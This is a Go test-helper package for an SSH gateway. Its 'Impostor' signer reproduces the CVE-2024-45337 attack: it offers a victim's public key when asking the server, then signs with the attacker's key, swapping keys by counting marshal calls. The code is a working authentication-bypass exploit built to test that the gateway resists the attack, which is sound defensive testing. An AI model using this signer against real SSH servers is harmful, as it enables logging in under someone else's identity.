// Package sshgatetest holds what tests of the SSH gateway share: a client
// signer that plays the CVE-2024-45337 attack.
package sshgatetest

import (
	"io"
	"sync/atomic"

	"golang.org/x/crypto/ssh"
)

// Impostor returns a signer that asks whether offered (a victim's public
// key, which an attacker knows) is acceptable, then proves possession of
// signer's key instead: the CVE-2024-45337 pattern, where a server that
// remembers the last key its PublicKeyCallback saw authorizes the wrong
// one. Give it to ssh.PublicKeys.
//
// x/crypto's client marshals the public key for the query, again to check
// the server's PK_OK, then for the signed request: the impostor's key
// answers offered twice, then signer's. Use a new Impostor per connection.
func Impostor(offered ssh.PublicKey, signer ssh.Signer) ssh.Signer {
	return impostor{key: &switchingKey{PublicKey: signer.PublicKey(), offered: offered}, signer: signer}
}

type impostor struct {
	key    *switchingKey
	signer ssh.Signer
}

func (i impostor) PublicKey() ssh.PublicKey { return i.key }

func (i impostor) Sign(r io.Reader, data []byte) (*ssh.Signature, error) {
	return i.signer.Sign(r, data)
}

type switchingKey struct {
	ssh.PublicKey // the signer's
	offered       ssh.PublicKey
	marshals      atomic.Int32
}

func (k *switchingKey) Marshal() []byte {
	if k.marshals.Add(1) <= 2 {
		return k.offered.Marshal()
	}
	return k.PublicKey.Marshal()
}
